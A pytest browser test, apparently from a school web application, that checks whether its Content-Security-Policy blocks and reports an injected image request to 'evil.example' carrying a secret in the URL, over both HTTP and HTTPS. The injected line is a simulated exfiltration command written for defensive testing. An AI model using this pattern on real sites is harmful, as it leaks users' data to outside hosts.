"""A real browser reports what the policy stopped (R61): over plain HTTP by report-uri, over TLS by report-to."""

import logging
import os
import threading
import time

import pytest
from playwright.sync_api import sync_playwright
from werkzeug.serving import make_server

from app.extensions import db as database
from tests.browser.conftest import CHROMIUM, QUIET
from tests.databases import make_app

pytestmark = [
    pytest.mark.once,
    pytest.mark.skipif(not CHROMIUM and not os.environ.get("CI"), reason="no Chromium on this machine"),
]
SECRET = "geheime-leerling"


@pytest.fixture(params=["http", "https"])
def address(app, institution, request):
    """The same school, with or without TLS."""
    safe = request.param == "https"
    url, home = app.config["SQLALCHEMY_DATABASE_URI"], app.config["INSTANCE"]
    served = make_app(url, home, SECURE=safe, PUBLIC_URL=f"{request.param}://127.0.0.1", TRUSTED_HOSTS=["127.0.0.1"])
    server = make_server("127.0.0.1", 0, served, threaded=True, ssl_context="adhoc" if safe else None)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"{request.param}://127.0.0.1:{server.port}"
    server.shutdown()
    thread.join()
    server.server_close()
    with served.app_context():
        database.engine.dispose()


def test_a_picture_of_another_site_is_stopped_and_reported_without_what_was_searched_r61(address, caplog):
    caplog.set_level(logging.WARNING, "app.pages.reports")
    trusting = [*QUIET, "--ignore-certificate-errors", "--short-reporting-delay"]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=trusting)
        page = browser.new_context(ignore_https_errors=True).new_page()
        page.goto(f"{address}/login?next=/{SECRET}")
        page.evaluate(f"new Image().src = 'https://evil.example/{SECRET}.png'")
        until = time.monotonic() + 20
        while not (told := reported(caplog)) and time.monotonic() < until:
            page.wait_for_timeout(100)
        browser.close()
    assert [line.split(": ")[1].rpartition(",")[0] for line in told] == ["img-src on /login"]
    assert SECRET not in "".join(told)


def reported(caplog):
    return [line.getMessage() for line in caplog.records if line.name == "app.pages.reports"]
